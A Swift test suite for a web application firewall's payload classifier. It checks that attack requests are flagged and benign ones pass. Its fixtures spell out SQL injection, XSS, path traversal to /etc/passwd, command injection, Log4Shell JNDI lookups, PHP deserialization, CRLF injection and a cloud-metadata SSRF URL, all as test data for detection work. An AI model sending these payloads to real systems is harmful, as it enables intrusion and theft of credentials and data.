import Testing

@testable import Inspect

@Suite("Weir's own payload verdict")
struct VerdictTests {
  private static let patterns = try! SignalPatterns()

  private func verdict(
    uri: String = "/", headers: [(String, String)] = [], body: String = "", rules: [Int] = []
  ) throws -> PayloadVerdict {
    let request = InspectedRequest(
      method: Array((body.isEmpty ? "GET" : "POST").utf8), uri: Array(uri.utf8),
      headers: headers.map { InspectedRequest.Header($0.0, $0.1) }, body: Array(body.utf8))
    let matches = rules.map {
      RuleMatch(ruleID: $0, score: 5, variable: "ARGS:q", value: [], paranoia: 1, tags: [], message: "")
    }
    let crs = CRSVerdict(score: 5 * rules.count, blocked: !rules.isEmpty, matches: matches)
    return try VerdictJudge(Self.patterns).judge(request, crs: crs)
  }

  private static let attacks: [(String, PayloadClass)] = [
    ("/item?id=7%27%20OR%20%27a%27%3D%27a", .sqli),
    ("/item?id=-1+union+all+select+1,2,login+from+accounts", .sqli),
    ("/item?id=1;waitfor+delay+'0:0:9'--", .sqli),
    ("/find?q=%3Csvg%20onload%3Dconfirm(7)%3E", .xss),
    ("/find?q=%253Cscript%253Ealert(3)%253C%252Fscript%253E", .xss),
    ("/show?page=..%2f..%2f..%2f..%2fetc%2fpasswd", .lfi),
    ("/show?page=..%c0%af..%c0%afetc%c0%afshadow", .lfi),
    ("/.git/HEAD", .lfi),
    ("/ping?host=8.8.8.8%3Bcat%20/etc/hosts", .rce),
    ("/ping?host=%60whoami%60", .rce),
    ("/hello?name=%7B%7B9*9%7D%7D", .rce),
    ("/log?x=$%7Bjndi:ldap://192.0.2.7/o%7D", .java),
    ("/log?x=$%7B$%7Blower:j%7Dndi:rmi://192.0.2.7/o%7D", .java),
    ("/load?data=O:8:%22Evil_Job%22:1:%7Bs:3:%22cmd%22;s:2:%22id%22;%7D", .php),
    ("/api?user[$ne]=x", .sqli),
    ("/go?next=a%0d%0aSet-Cookie:%20s=1", .protocol),
    ("/ping?host=x&&id", .rce), ("/ping?host=ifconfig", .rce), ("/a?q=aWQ7Y2F0IC9ldGMvcGFzc3dk", .lfi),
    ("/fetch?u=http://169.254.169.254/latest/meta-data/", .rfi),
    ("/run?c=IF%20NOT%20%25LEVEL%25%20NEQ%203%20echo%20no", .rce), ("/run?c=nohup%20bash%20-c%20date", .rce),
    ("/run?c=alias%20w%3Dcurl%26w", .rce),
  ]

  @Test("finds textbook attacks of every class without the rule set's help", arguments: attacks)
  func findsAttacks(_ uri: String, _ expected: PayloadClass) throws {
    let verdict = try verdict(uri: uri)
    #expect(verdict.verdict == .attack)
    #expect(verdict.classes.contains(expected))
    #expect(!verdict.reasons.isEmpty)
  }

  @Test(
    "leaves ordinary requests alone",
    arguments: [
      "/", "/shop/shoes?size=42&colour=red", "/search?q=select+a+plan+from+our+offers", "/a/b.js?v=1.2.3",
      "/search?q=the+union+of+select+committees",
      "/pixel?us_privacy=1---&url=https%3A%2F%2Fshop.example%2F%3Fa%3D1%26b%3D2",
      "/search?q=O%27Neill+or+Smith", "/t?e=%7B%22a%22%3A%22b%22%2C%22n%22%3A3%7D", "/blog/how-to-drop-a-table-lamp",
      "/find?q=rock+%26+roll%3B+live", "/find?q=if+not+now+then+when%3F+exit+strategy",
      "/find?q=it+is+time+to+watch+bash+brothers", "/find?q=alias+grace+season%3D1+episode",
      "/img?f=report+(final).pdf",
    ])
  func leavesOrdinaryAlone(_ uri: String) throws {
    let verdict = try verdict(uri: uri)
    #expect(verdict.verdict == .clean, "\(verdict.reasons)")
    #expect(verdict.classes == [])
  }

  @Test("looks into JSON, forms, multipart parts, XML attributes, cookies and headers")
  func looksEverywhere() throws {
    let payload = "<script>alert(1)</script>"
    let json = #"{"a":{"b":["x","<scr\u0069pt>alert(1)</script>"]}}"#
    let form = "a=1&b=%3Cscript%3Ealert(1)%3C%2Fscript%3E"
    let multipart = "--q\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n\(payload)\r\n--q--\r\n"
    let xml = #"<r a="&lt;script&gt;alert(1)&lt;/script&gt;"/>"#
    #expect(try verdict(headers: [("Content-Type", "application/json")], body: json).classes.contains(.xss))
    #expect(try verdict(body: form).classes.contains(.xss))
    let type = ("Content-Type", "multipart/form-data; boundary=q")
    #expect(try verdict(headers: [type], body: multipart).classes.contains(.xss))
    #expect(try verdict(headers: [("Content-Type", "text/xml")], body: xml).classes.contains(.xss))
    #expect(try verdict(headers: [("Cookie", "s=1; theme=\(payload)")]).classes.contains(.xss))
    #expect(try verdict(headers: [("X-Any", payload)]).classes.contains(.xss))
  }

  @Test("a request judged quiet by the screen has no signs when it is weighed in full")
  func screenIsSound() throws {
    let judge = try VerdictJudge(Self.patterns)
    for uri in [
      "/a/b.css?v=3", "/x?u=https%3A%2F%2Fshop.example%2Fa&t=1692", "/%D7%A9/?q=%D7%A9", "/~me/p,1:2@x",
      "/search?q=red+wool%20hats&page=2", "/a%20b/c?d=e+f",
    ] {
      let request = InspectedRequest(
        method: Array("GET".utf8), uri: Array(uri.utf8), headers: [.init("User-Agent", "Mozilla/5.0 (X11; Linux)")])
      for _ in 0..<2 { #expect(judge.judge(request, crs: .clean).score == 0) }
      #expect(judge.explain(request, crs: .clean).1.isEmpty, "\(uri)")
    }
  }

  @Test("no target that holds a sign is called quiet, whatever it is spliced from")
  func screenIsSoundOnAny() throws {
    let judge = try VerdictJudge(Self.patterns)
    var quiet = 0
    for uri in SplicedTargets.made(3_000) {
      let bytes = Array(uri.utf8)
      guard bytes.withUnsafeBytes({ judge.isQuiet(target: $0) }) else { continue }
      quiet += 1
      let signs = judge.explain(InspectedRequest(method: Array("GET".utf8), uri: bytes), crs: .clean).1
      #expect(signs.isEmpty, "\(uri): \(signs.map(\.words))")
    }
    #expect(quiet > 300)
  }

  @Test("padding before the payload hides nothing")
  func seesThroughPadding() throws {
    let padding = String(repeating: "A", count: 130_000)
    #expect(try verdict(body: "q=\(padding)' UNION SELECT 1,2,3-- ").verdict == .attack)
  }

  @Test("protocol policy alone never makes an attack, a payload rule does, but not in prose")
  func weighsRules() throws {
    #expect(try verdict(uri: "/?q=1", rules: [920420, 920300, 943110]).verdict == .clean)
    #expect(try verdict(uri: "/?q=1", rules: [942350]).verdict == .attack)
    #expect(try verdict(uri: "/?q=please+give+the+order+to+my+brother", rules: [942350]).verdict == .clean)
  }

  @Test("says why in words, with hostile bytes made harmless")
  func givesReasons() throws {
    let verdict = try verdict(uri: "/?a%1b[31m\"x=%3Cscript%3E")
    #expect(verdict.reasons.contains { $0.hasPrefix("In a parameter") && $0.contains("a script element") })
    #expect(verdict.reasons.allSatisfy { !$0.utf8.contains(27) })
  }

  @Test("hostile shapes neither crash nor stall", arguments: 0..<40)
  func survives(_ seed: Int) throws {
    var state = UInt64(seed) &* 0x9E37_79B9_7F4A_7C15 | 1
    let alphabet = Array("%u00cC0'\"<>{}[]()$`\\;|&=?/.:+,-\u{0}\r\n#!@*~^ aeiox0".utf8)
    var bytes: [UInt8] = []
    for _ in 0..<600 {
      state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
      let pick = Int(truncatingIfNeeded: state >> 33)
      bytes.append(pick % 11 == 0 ? UInt8(truncatingIfNeeded: pick >> 4) : alphabet[pick % alphabet.count])
    }
    for type in [
      "application/json", "multipart/form-data; boundary=%", "text/xml", "application/x-www-form-urlencoded",
    ] {
      let request = InspectedRequest(
        method: Array("POST".utf8), uri: bytes,
        headers: [.init("Content-Type", type), .init(name: bytes, value: bytes)],
        body: Array("{<--%".utf8) + bytes)
      let verdict = try VerdictJudge(Self.patterns).judge(request, crs: .clean)
      #expect((0...100).contains(verdict.score))
    }
  }

  @Test("every signal has a name of its own, points that mean something and words")
  func signalsAreSound() {
    #expect(Set(Signals.all.map(\.id)).count == Signals.all.count)
    for signal in Signals.all {
      #expect((5...90).contains(signal.points) && !signal.words.isEmpty && !signal.words.hasSuffix("."))
    }
  }
}
